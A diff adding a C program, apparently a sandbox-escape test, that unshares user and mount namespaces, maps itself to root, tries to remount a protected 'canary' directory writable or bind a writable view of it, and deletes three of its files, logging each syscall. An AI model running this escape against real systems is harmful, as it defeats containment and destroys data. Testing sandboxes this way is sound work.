@@ -1,0 +1,70 @@
+// attack: escape: unshare(CLONE_NEWUSER|CLONE_NEWNS), map root, remount the canary read-write (or bind a writable view of it) and destroy it
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+// The canary's regular files (top level), as names relative to it: the attack does not assume them.
+static int canary_files(const char *canary, char names[][256], int max) {
+    DIR *d = opendir(canary);
+    int n = 0;
+    struct dirent *e;
+    if (!d) { perror(canary); return 0; }
+    while (n < max && (e = readdir(d)))
+        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
+    closedir(d);
+    return n;
+}
+
+static long show(const char *what, long r) {
+    printf("%s -> %ld (%s)\n", what, r, r < 0 ? strerror(errno) : "success");
+    fflush(stdout);
+    return r;
+}
+
+static void write_file(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY);
+    if (fd >= 0) { write(fd, text, strlen(text)); close(fd); }
+}
+
+int main(void) {
+    const char *canary = getenv("CANARY");
+    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
+    char f[3][256], p[4096];
+    if (canary_files(canary, f, 3) < 3) { fprintf(stderr, "fewer than 3 canary files\n"); return 2; }
+    uid_t uid = getuid();
+    gid_t gid = getgid();
+    errno = 0;
+    if (show("unshare(CLONE_NEWUSER|CLONE_NEWNS)", syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS)) == 0) {
+        char map[64];
+        write_file("/proc/self/setgroups", "deny");
+        snprintf(map, sizeof map, "0 %u 1", uid); write_file("/proc/self/uid_map", map);
+        snprintf(map, sizeof map, "0 %u 1", gid); write_file("/proc/self/gid_map", map);
+    } else {
+        errno = 0;
+        show("unshare(CLONE_NEWNS)", syscall(SYS_unshare, CLONE_NEWNS));
+    }
+    errno = 0; show("mount(MS_REC|MS_PRIVATE, /)", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
+    errno = 0; show("mount(canary, MS_REMOUNT|MS_BIND, rw)", mount(NULL, canary, NULL, MS_REMOUNT | MS_BIND, NULL));
+    errno = 0; show("umount2(canary, MNT_DETACH)", umount2(canary, MNT_DETACH));
+    mkdir("escape-view", 0755);
+    errno = 0; show("mount(canary -> escape-view, MS_BIND|MS_REC)", mount(canary, "escape-view", NULL, MS_BIND | MS_REC, NULL));
+    for (int i = 0; i < 3; i++) {
+        snprintf(p, sizeof p, "%s/%s", canary, f[i]);
+        char label[4400];
+        snprintf(label, sizeof label, "unlink(%s)", p);
+        errno = 0; show(label, unlink(p));
+        snprintf(p, sizeof p, "escape-view/%s", f[i]);
+        snprintf(label, sizeof label, "unlink(%s)", p);
+        errno = 0; show(label, unlink(p));
+    }
+    return 0;
+}
